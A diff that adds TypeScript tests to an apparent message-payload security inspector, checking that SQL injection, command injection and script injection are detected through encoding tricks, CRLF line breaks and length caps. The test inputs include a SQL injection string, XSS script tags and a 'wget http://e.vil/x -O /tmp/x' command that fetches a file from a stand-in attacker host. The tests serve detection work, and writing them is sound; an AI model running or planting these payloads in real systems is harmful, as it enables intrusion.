@@ -221,3 +221,45 @@ test('a text longer than the message budget is read up to it and the rest report
   assert.ok(limit, `no PAT-INSPECTION-LIMIT in ${JSON.stringify(findings)}`);
   assert.match(limit.evidence, /characters to inspect/);
 });
+
+const status = (text: string) => packetEvent({ topic: 'devices/d1/status', payload: Buffer.from(text) });
+const classes = (findings: ReturnType<typeof inspect>) => new Set(findings.map((f) => f.class));
+
+test('a form-encoded injection is read with its + as spaces, quotes or not', () => {
+  assert.ok(classes(inspect(status("user=admin'+or+'1'='1'--"))).has('sqli'));
+  assert.ok(classes(inspect(telemetry({ user: "admin'+or+'1'='1" }))).has('sqli'));
+});
+
+test('a line value is read in its own context whatever follows a shell comment or a CRLF', () => {
+  for (const text of [
+    'mode: auto\ncmd: uname -a # x=1',
+    'mode: auto\nexec: wget http://e.vil/x -O /tmp/x # a=1',
+    'mode: auto\r\nexec: wget http://e.vil/x -O /tmp/x\r\n',
+    'mode: auto\ncmd: uname -a; a=b',
+  ])
+    assert.ok(classes(inspect(status(text))).has('command-injection'), JSON.stringify(text));
+});
+
+test('re-reading the lines of a text that was read whole reports no inspection limit', () => {
+  const lines = Array.from({ length: 3000 }, (_, i) => `sensor${i}=ok state`).join('\n');
+  for (const text of [lines, 'x\n'.repeat(5001)]) {
+    const limit = inspect(status(text)).find((f) => f.ruleId === 'PAT-INSPECTION-LIMIT');
+    assert.equal(limit, undefined, limit?.evidence);
+  }
+});
+
+test('decoding that lengthens a field past the cap reports what it cut off', () => {
+  // U+FDFA becomes 18 characters under NFKC: 460 of them push the script past 8192.
+  const findings = inspect(telemetry({ u: `${'\ufdfa'.repeat(460)} <script>alert(1)</script>` }));
+  assert.ok(
+    findings.some((f) => f.ruleId === 'PAT-INSPECTION-LIMIT' || f.class === 'xss'),
+    JSON.stringify(findings),
+  );
+});
+
+test('a UTF-8 byte order mark before JSON is not content', () => {
+  const bom = Buffer.from([0xef, 0xbb, 0xbf]);
+  const payload = Buffer.concat([bom, Buffer.from('{"note":"<script>alert(1)</script>"}')]);
+  const findings = inspect(packetEvent({ payload }));
+  assert.ok(findings.some((f) => f.class === 'xss' && f.location === 'payload.json:$.note'));
+});
